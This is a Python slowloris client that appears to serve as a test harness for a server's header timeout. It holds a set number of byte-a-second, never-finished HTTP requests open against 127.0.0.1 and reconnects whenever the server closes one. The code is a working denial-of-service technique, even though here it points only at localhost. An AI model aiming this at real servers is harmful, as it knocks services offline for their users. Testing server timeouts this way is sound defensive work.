#!/usr/bin/env python3
"""Holds COUNT slowloris connections open: slowloris.py PORT COUNT.

Each connection to 127.0.0.1:PORT sends a request head one byte every INTERVAL seconds
(environment SLOW_INTERVAL, default 1) and never finishes it (the head is longer than any
header timeout lets it send). When the server closes one (its header_timeout: a 408, then the
close), a new one takes its place, as an attacker's tool does, so COUNT stay open all along.
At most PARALLEL connections (environment SLOW_PARALLEL, default 256) are being set up at a
time: a burst of SYNs beyond the accept backlog would be retransmitted a second later.

Prints "ready open=N seconds=S" on stdout once COUNT connections are open, then keeps going
until stdin reaches end of file or SIGTERM arrives, and prints "done open=N closed_by_server=C
answered_408=A reconnects=R" before closing them. Exits 1 when the first COUNT are not open
within SLOW_TIMEOUT seconds (default 60).
"""
import errno
import os
import selectors
import signal
import socket
import sys
import time

# Longer than a 10 s header_timeout lets a byte-a-second client send.
HEAD = (b"GET /hello HTTP/1.1\r\nHost: 127.0.0.1\r\nUser-Agent: slowloris\r\n"
        b"X-Padding: " + b"s" * 200 + b"\r\n")


class Stop(Exception):
    pass


def on_term(_signum, _frame):
    raise Stop()


class Conn:
    __slots__ = ("sock", "connected", "sent", "due", "answer")

    def __init__(self, sock):
        self.sock = sock
        self.connected = False
        self.sent = 0
        self.due = 0.0
        self.answer = b""


def main():
    if len(sys.argv) != 3:
        print(__doc__.strip(), file=sys.stderr)
        return 2
    port, count = int(sys.argv[1]), int(sys.argv[2])
    interval = float(os.environ.get("SLOW_INTERVAL", "1"))
    parallel = int(os.environ.get("SLOW_PARALLEL", "256"))
    timeout = float(os.environ.get("SLOW_TIMEOUT", "60"))
    signal.signal(signal.SIGTERM, on_term)

    sel = selectors.DefaultSelector()
    stdin_fd = sys.stdin.fileno()
    sel.register(stdin_fd, selectors.EVENT_READ, None)
    conns = set()
    counts = {"closed": 0, "408": 0, "reconnects": 0, "failed": 0}
    begin = time.monotonic()
    ready = False

    def start():
        sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        sock.setblocking(False)
        conn = Conn(sock)
        code = sock.connect_ex(("127.0.0.1", port))
        if code not in (0, errno.EINPROGRESS):
            counts["failed"] += 1
            sock.close()
            return
        conns.add(conn)
        sel.register(sock, selectors.EVENT_WRITE, conn)

    def drop(conn, by_server):
        sel.unregister(conn.sock)
        conn.sock.close()
        conns.discard(conn)
        if by_server:
            counts["closed"] += 1
            if conn.answer.startswith(b"HTTP/1.1 408 "):
                counts["408"] += 1
        else:
            counts["failed"] += 1

    def step(conn):
        if not conn.connected:
            if conn.sock.getsockopt(socket.SOL_SOCKET, socket.SO_ERROR):
                drop(conn, False)
                return
            conn.connected = True
            conn.due = time.monotonic()
            sel.modify(conn.sock, selectors.EVENT_READ, conn)
            return
        try:
            data = conn.sock.recv(4096)
        except BlockingIOError:
            return
        except OSError:
            data = b""
        if data:
            conn.answer += data[:64]
        else:
            drop(conn, True)

    def send_due(now):
        for conn in list(conns):
            if not conn.connected or now < conn.due or conn.sent >= len(HEAD):
                continue
            try:
                conn.sent += conn.sock.send(HEAD[conn.sent:conn.sent + 1])
            except BlockingIOError:
                pass
            except OSError:
                continue  # the server closed it: the next recv says so
            conn.due += interval

    try:
        while True:
            setting_up = sum(1 for c in conns if not c.connected)
            while len(conns) < count and setting_up < parallel:
                if ready:
                    counts["reconnects"] += 1
                start()
                setting_up += 1
            now = time.monotonic()
            if not ready:
                if len(conns) == count and setting_up == 0:
                    ready = True
                    print("ready open=%d seconds=%.2f" % (len(conns), now - begin), flush=True)
                elif now - begin > timeout:
                    print("setup did not finish within %g s: %d open, %d failed"
                          % (timeout, len(conns), counts["failed"]), file=sys.stderr)
                    return 1
            send_due(now)
            for key, _ in sel.select(timeout=0.05):
                if key.data is None:
                    if not os.read(stdin_fd, 4096):
                        raise Stop()
                else:
                    step(key.data)
    except Stop:
        pass
    print("done open=%d closed_by_server=%d answered_408=%d reconnects=%d failed=%d"
          % (len(conns), counts["closed"], counts["408"], counts["reconnects"], counts["failed"]),
          flush=True)
    for conn in conns:
        conn.sock.close()
    return 0


if __name__ == "__main__":
    sys.exit(main())
